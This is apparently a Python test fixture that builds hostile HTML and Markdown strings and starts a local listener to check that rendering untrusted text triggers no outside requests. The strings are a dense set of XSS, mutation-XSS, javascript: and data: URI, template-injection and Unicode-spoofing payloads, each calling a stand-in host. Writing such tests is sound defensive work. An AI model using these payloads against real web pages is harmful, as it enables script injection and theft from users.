"""Text of strangers that wants to run, to load or to leave in a browser, and somebody who would hear it."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

HTML = (
    "<script>fetch('{there}/script')</script>",
    "<img src=x onerror=\"fetch('{there}/onerror')\">",
    "<img src='{there}/img'>",
    "<svg onload=\"fetch('{there}/svg')\"><image href='{there}/image'/><use href='{there}/use'/></svg>",
    "<svg><script href='{there}/svgscript'></script></svg>",
    "<iframe src='{there}/iframe' srcdoc='<script>top.hurt=1</script>'></iframe>",
    "<object data='{there}/object'></object><embed src='{there}/embed'>",
    "<video poster='{there}/poster' src='{there}/video' autoplay></video><audio src='{there}/audio' autoplay>",
    "<link rel=stylesheet href='{there}/css'><link rel=prefetch href='{there}/prefetch'>",
    "<style>@import '{there}/import'; body {{ background: url({there}/background) }}</style>",
    "<p style=\"background: url('{there}/style')\">styled</p>",
    "<meta http-equiv=refresh content='0; url={there}/refresh'><base href='{there}/'>",
    "<details open ontoggle=\"fetch('{there}/toggle')\"><summary>open</summary></details>",
    "<input autofocus onfocus=\"fetch('{there}/focus')\">",
    "<form action='{there}/form'><button formaction='{there}/button'>go</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=fetch('{there}/mxss')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('{there}/noscript')>\">",
    "<a href='{there}/ping' ping='{there}/pinged'>ping</a>",
    "</title></textarea></script><img src='{there}/closed'>",
    "&lt;img src='{there}/entity'&gt; &#60;img src='{there}/number'&#62;",
    "\"><img src='{there}/quote'> ' onmouseover=fetch('{there}/over') x='",
    "{{{{ 7 * 191 }}}} {{% raw %}} ${{7 * 191}}",
    "<template><img src='{there}/template'></template><x-hurt is=x></x-hurt>",
)
MARKDOWN = (
    "![picture]({there}/markdown)",
    "![by name][p]\n\n[p]: {there}/reference",
    "[run](javascript:fetch('{there}/javascript')) [run](JaVaScRiPt&colon;fetch('{there}/colon'))",
    "[data](data:text/html;base64,PHNjcmlwdD50b3AuaHVydD0xPC9zY3JpcHQ+) [vb](vbscript:x) [f](file:///etc/passwd)",
    '[title](https://example.org "a\\" onmouseover=fetch(\'{there}/title\') b")',
    "<javascript:fetch('{there}/auto')>",
    "[[<img src=x onerror=fetch('{there}/wiki')>]] [[x\"><img src='{there}/wikiquote'>|shown]]",
    "```\"><img src='{there}/fence'>\n<img src='{there}/code'>\n```",
    "`<img src='{there}/inline'>` *<img src='{there}/emphasis'>*",
    "| a | <img src='{there}/cell'> |\n|---|---|\n| b | c |",
    "\u202egnp.evil \u2066 \x7f \ufeff \u2028 end",
)
NAME = "\"><img src=x onerror=fetch('{there}')> '`{{{{7}}}}&lt;b&gt;"
"""Hostile text as short as a title, and without what a file's name cannot have."""


def hostile_text(there: str) -> str:
    """All of it in one text, as Markdown; HTML stands in lines, in blocks, and in the middle."""
    return "\n\n".join(each.format(there=there) for each in (*HTML, *MARKDOWN, *HTML))


def hostile_name(there: str) -> str:
    """A name, in which a file system would not bear a slash."""
    return NAME.format(there=there.replace("/", "\N{FRACTION SLASH}"))


@dataclass
class Overhearing:
    """Somebody else's server, which should hear nothing. `heard`: the first line of each request."""

    url: str
    heard: list[str] = field(default_factory=list)


@asynccontextmanager
async def overhearing() -> AsyncIterator[Overhearing]:
    """Listen on a port of another origin while the block lasts; fails if anybody asked there."""

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        there.heard.append((await reader.readline()).decode(errors="replace"))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    there = Overhearing(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}")
    async with server:
        yield there
    assert there.heard == []
